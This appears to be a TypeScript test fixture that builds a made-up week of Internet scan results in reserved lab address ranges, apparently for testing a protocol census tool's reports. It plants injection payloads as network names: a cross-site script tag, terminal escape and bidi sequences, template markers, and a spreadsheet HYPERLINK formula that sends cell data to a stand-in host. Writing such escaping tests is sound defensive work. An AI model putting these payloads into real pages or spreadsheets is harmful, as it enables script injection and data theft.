import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { Config } from '../../../orchestrator/config/config.ts';
import { columnsOf } from '../../../orchestrator/core/database/columns.ts';
import { openDatabase, runSql } from '../../../orchestrator/core/database/duckdb.ts';
import { sqlText } from '../../../orchestrator/core/database/sql.ts';
import { newStageEntry, noCounts } from '../../../orchestrator/core/folder/entries.ts';
import { sha256File, sha256Of } from '../../../orchestrator/core/folder/files.ts';
import { type Manifest, ManifestFile, schemaVersion } from '../../../orchestrator/core/folder/manifest.ts';
import { DomainsRecord } from '../../../orchestrator/schemas/records/domains.ts';
import { HostsRecord } from '../../../orchestrator/schemas/records/hosts.ts';

/** Runs of a made-up Internet, as merge leaves them: many networks of very different sizes in many countries. */
export interface World {
  /** Addresses that answer, each at port 80 and some at others. */
  addresses: number;
  ases: number;
  countries: number;
  ports: readonly number[];
  /** One in so many endpoints is capable of v1 in the first week; more are later. */
  rare: number;
}

const codes =
  'US DE FR GB NL JP CN RU FI SE PL IT ES BR IN CA AU KR SG CH AT CZ DK NO BE UA TR ZA MX AR ID VN TH HK TW IE PT RO HU GR BG IL AE CL CO MY PH NZ EG NG KE PE LT LV EE SK SI HR RS IS LU KZ'.split(
    ' ',
  );

/** Names that would do harm where they were not shown as they are. */
export const attacks = {
  script: '<script>alert(1)</script><img src=x onerror=alert(1)>',
  escapes: '\u001b[31mRED\u001b]0;title\u0007 \u202eNET',
  formula: '=HYPERLINK("http://198.18.0.9/?"&A1,"click")',
  quotes: `"quoted", 'single' & </td></table> {{7*7}} \${x}`,
} as const;

function names(): string {
  const planted = Object.values(attacks).map((name, i) => `WHEN ${i + 2} THEN ${sqlText(name)}`);
  return `CASE a ${planted.join(' ')} WHEN 6 THEN NULL ELSE 'NETWORK-' || a || ' of ' || country END`;
}

/** A die with so many sides for each row and purpose, the same each time. */
const die = (sides: number | string, ...of: (string | number)[]) => `CAST(hash(${of.join(', ')}) % ${sides} AS BIGINT)`;

const verdict = (name: string, rung: string, reply: string) =>
  `{verdict: '${name}', rung: ${rung}, rules: ['${name}'], flags: NULL, replies: [${reply}], rule_set: 'ours', rules_version: 2}`;

function claim(version: 'v1' | 'v0'): string {
  const cases = [
    ['kind = 0', verdict('refused', "'none'", "'rst'")],
    ['kind = 7', verdict('unknown', "'none'", "'icmp_unreachable'")],
    ['kind = 1', verdict('echoed_option', "'syn_ack'", "'echoed'")],
    ['kind = 2', verdict('inconsistent', "'fresh_key'", "'echoed', 'mp_capable'")],
    [
      version === 'v1' ? 'kind IN (3, 4)' : 'kind = 5',
      verdict('capable', "CASE WHEN kind = 4 THEN 'connection' ELSE 'fresh_key' END", "'mp_capable'"),
    ],
  ];
  return `CASE ${cases.map(([when, then]) => `WHEN ${when} THEN ${then}`).join(' ')} ELSE ${verdict('not_offered', "'syn_ack'", "'synack_no_option'")} END`;
}

/** Endpoints of one week. kind: 0 refused, 1 echo, 2 inconsistent, 3 capable of v1, 4 confirmed too, 5 capable of v0, 6 no option, 7 an ICMP error. */
function hostsSql({ addresses, ases, countries, ports, rare }: World, week: number): string {
  const list = codes.slice(0, countries).map(sqlText).join(', ');
  const home = `CAST(floor(${countries} * power(${die(10_000, 'a', 17)} / 10000.0, 2)) AS INTEGER)`;
  return `
    SELECT *, ${names()} AS as_name FROM (
      SELECT *, ([${list}])[1 + CASE WHEN ${die(40, 'i', 19)} = 0 THEN ${die(countries, 'i', 23)} ELSE ${home} END] AS country,
        CASE WHEN ${die(9, 'i', 'port', 29)} = 0 THEN 0 WHEN ${die(120, 'i', 'port', 27)} = 0 THEN 7 WHEN ${die(160, 'i', 'port', 31)} = 0 THEN 1 WHEN ${die(900, 'i', 'port', 37)} = 0 THEN 2
          WHEN ${die(`(${Math.max(1, Math.round(rare / (1 + week * 0.06)))} + a % 7 * ${Math.round(rare / 7)})`, 'i', 'port', 41)} = 0 THEN CASE WHEN ${die(4, 'i', 43)} = 0 THEN 3 ELSE 4 END
          WHEN ${die(rare * 6, 'i', 'port', 47)} = 0 THEN 5 ELSE 6 END AS kind
      FROM (
        SELECT i, p.port, 1 + CAST(floor(${ases} * power(${die(100_000, 'i', 3)} / 100000.0, 3)) AS INTEGER) AS a,
          CASE WHEN i % 9 = 4 THEN '2001:db8::' || printf('%x', (i >> 16) + 1) || ':' || printf('%x', (i & 65535) + 1)
            ELSE '240.' || (i >> 16) || '.' || ((i >> 8) & 255) || '.' || (i & 255) END AS address
        FROM range(${addresses}) t(i), (VALUES ${ports.map((one, n) => `(${one}, ${n})`).join(', ')}) p(port, n)
        WHERE ${die(50, 'i', week, 11)} > 0 AND (n = 0 OR ${die('(2 * n)', 'i', 'n', 13)} = 0)
      )
    )`;
}

async function writeHosts(folder: string, world: World, week: number, time: string): Promise<void> {
  const database = await openDatabase({ temp: join(folder, '.tmp'), memoryLimit: '1GB' });
  const none = (columns: ReturnType<typeof columnsOf>) =>
    columns.map(([name, type]) => `CAST(NULL AS ${type}) AS "${name}"`).join(', ');
  const hosts = columnsOf(HostsRecord);
  const rows = `
    SELECT address, port, CASE WHEN contains(address, ':') THEN 6 ELSE 4 END AS family, ${claim('v1')} AS v1, ${claim('v0')} AS v0,
      [] AS domains, CASE WHEN kind IN (3, 4) THEN true END AS connected, kind = 3 AS fallback,
      64500 + a AS asn, as_name, country, '=1+1 ' || country AS city, '${time}' AS first_reply_at, '${time}' AS last_reply_at, 'made' AS run, 'made' AS vantage
    FROM (${hostsSql(world, week)})`;
  const selected = hosts.map(([name, type]) => `CAST("${name}" AS ${type}) AS "${name}"`).join(', ');
  try {
    await runSql(
      database,
      `COPY (SELECT ${selected} FROM (SELECT * FROM (${rows}) UNION ALL BY NAME SELECT ${none(hosts)} WHERE false) ORDER BY address, port)
        TO ${sqlText(join(folder, 'hosts.parquet'))} (FORMAT parquet)`,
    );
    await runSql(
      database,
      `COPY (SELECT ${none(columnsOf(DomainsRecord))} WHERE false) TO ${sqlText(join(folder, 'domains.parquet'))} (FORMAT parquet)`,
    );
  } finally {
    database.closeSync();
  }
}

const minutes = (time: string, n: number) => new Date(Date.parse(time) + n * 60_000).toISOString();

/** What a run's manifest says, as far as anybody asks. */
async function manifestOf(folder: string, world: World, name: string, time: string): Promise<Manifest> {
  const config = Config.parse({
    ...{ lab: true, lab_ranges: ['198.18.0.0/15', '240.0.0.0/4', '2001:db8::/32'], seed: 1, path: { ping: false } },
    ...{ targets: { prefixes: ['240.0.0.0/8'] }, scan: { rate: 10_000, ports: [...world.ports] } },
  });
  const done = (unit: string) => newStageEntry({ status: 'done', unit, tool: 'made', reads: {}, started_at: time });
  const outputs = ['hosts.parquet', 'domains.parquet'].map(async (file) => [
    file,
    await sha256File(join(folder, file)),
  ]);
  const command = {
    argv: ['made'],
    version: null,
    started_at: time,
    ended_at: minutes(time, 10),
    exit_code: 0,
    times: 1,
  };
  const counts = {
    ...noCounts(),
    answered: world.addresses * 4,
    failed: { timeout: world.addresses * world.ports.length * 4 },
  };
  const scan = done('address, port, probe');
  scan.counts = counts;
  scan.parts = {
    '00000': {
      ...{
        started_at: time,
        ended_at: minutes(time, 10),
        input_sha256: '',
        output_sha256: '',
        raw_sha256: {},
        packed_sha256: {},
      },
      ...{ rejects_sha256: null, records_sha256: '', counts, unknown_fields: {}, facts: {}, commands: [command] },
    },
  };
  const merge = { ...done('address and port'), outputs: Object.fromEntries(await Promise.all(outputs)) };
  return {
    ...{ schema_version: schemaVersion, run: name, created_at: time, finished_at: minutes(time, 30) },
    census: { version: '0.1.0', git_commit: null, git_dirty: null },
    vantage: { hostname: 'secret-host', kernel: '6.18.1', architecture: 'x64', source_addresses: ['198.18.0.2'] },
    ...{ seed: 1, config: JSON.parse(JSON.stringify(config)), inputs: {}, programs: {}, starts: [] },
    ...{ stages: { scan, merge }, sentinels: [], vantage_impaired: null, purges: [] },
    ...{ rule_set: 'ours', rules_version: 2, result_sha256: sha256Of(name) },
  };
}

/** Writes the folder of one week's run. */
export async function writeWeek(root: string, world: World, week: number): Promise<string> {
  const time = new Date(Date.UTC(2026, 8, 7, 10) + week * 7 * 86_400_000).toISOString();
  const name = `week-${String(week).padStart(2, '0')}`;
  const folder = join(root, name);
  await mkdir(folder, { recursive: true });
  await writeHosts(folder, world, week, time);
  await new ManifestFile(folder, await manifestOf(folder, world, name, time)).save();
  return folder;
}
